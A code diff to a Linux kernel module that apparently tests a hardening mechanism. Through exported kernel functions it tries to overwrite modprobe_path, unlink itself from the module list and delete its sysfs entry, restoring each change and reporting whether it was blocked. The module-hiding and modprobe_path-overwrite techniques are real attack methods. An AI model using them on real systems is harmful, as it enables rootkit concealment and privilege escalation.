@@ -2,13 +2,15 @@
 /*
  * Attack: have the kernel write for us (a confused deputy). memcpy unlinks
  * us from the module list, memset blanks modprobe_path, snprintf prints
- * our helper's path over it and kstrtouint parses a number into it,
- * kobject_del takes us out of /sys/module: exported, allowed functions,
- * which run with the kernel's rights.
+ * our helper's path over it, kstrtouint parses a number into it, bin2hex
+ * and __bitmap_set write it, kobject_del takes us out of /sys/module:
+ * exported, allowed functions, which run with the kernel's rights.
  */
 #include <linux/module.h>
 #include <linux/string.h>
 #include <linux/kobject.h>
+#include <linux/bitmap.h>
+#include <linux/kernel.h>
 #include "alias.h"
 
 static unsigned long modprobe;
@@ -27,7 +29,7 @@ static int __init atk_init(void)
 	size_t w = word, n = path;
 	char before[8];
 	unsigned int *number = (unsigned int *)modprobe;
-	bool unlinked, blanked, printed, parsed;
+	bool unlinked, blanked, printed, parsed, hexed, bits;
 
 	if (!modprobe || w != sizeof(void *) || n > sizeof(before))
 		return -EINVAL;
@@ -49,10 +51,19 @@ static int __init atk_init(void)
 	parsed = kstrtouint("1", 10, number) == 0 || memcmp(before, (void *)modprobe, n) != 0;
 	if (parsed)
 		copy((void *)modprobe, before, n);
+	bin2hex((char *)modprobe, "\x2f\x74", 2);
+	hexed = memcmp(before, (void *)modprobe, n) != 0;
+	if (hexed)
+		copy((void *)modprobe, before, n);
+	__bitmap_set((unsigned long *)modprobe, 0, 8);
+	bits = memcmp(before, (void *)modprobe, n) != 0;
+	if (bits)
+		copy((void *)modprobe, before, n);
 	kobject_del(&THIS_MODULE->mkobj.kobj);
-	report("memcpy onto the module list %s, memset on modprobe_path %s, snprintf on modprobe_path %s, kstrtouint into modprobe_path %s, kobject_del of its own kobject %s",
+	report("memcpy onto the module list %s, memset on modprobe_path %s, snprintf on modprobe_path %s, kstrtouint into modprobe_path %s, bin2hex on modprobe_path %s, __bitmap_set on modprobe_path %s, kobject_del of its own kobject %s",
 	       unlinked ? "WENT THROUGH" : "blocked", blanked ? "WENT THROUGH" : "blocked",
 	       printed ? "WENT THROUGH" : "blocked", parsed ? "WENT THROUGH" : "blocked",
+	       hexed ? "WENT THROUGH" : "blocked", bits ? "WENT THROUGH" : "blocked",
 	       THIS_MODULE->mkobj.kobj.state_in_sysfs ? "blocked" : "WENT THROUGH");
 	return -EACCES;
 }
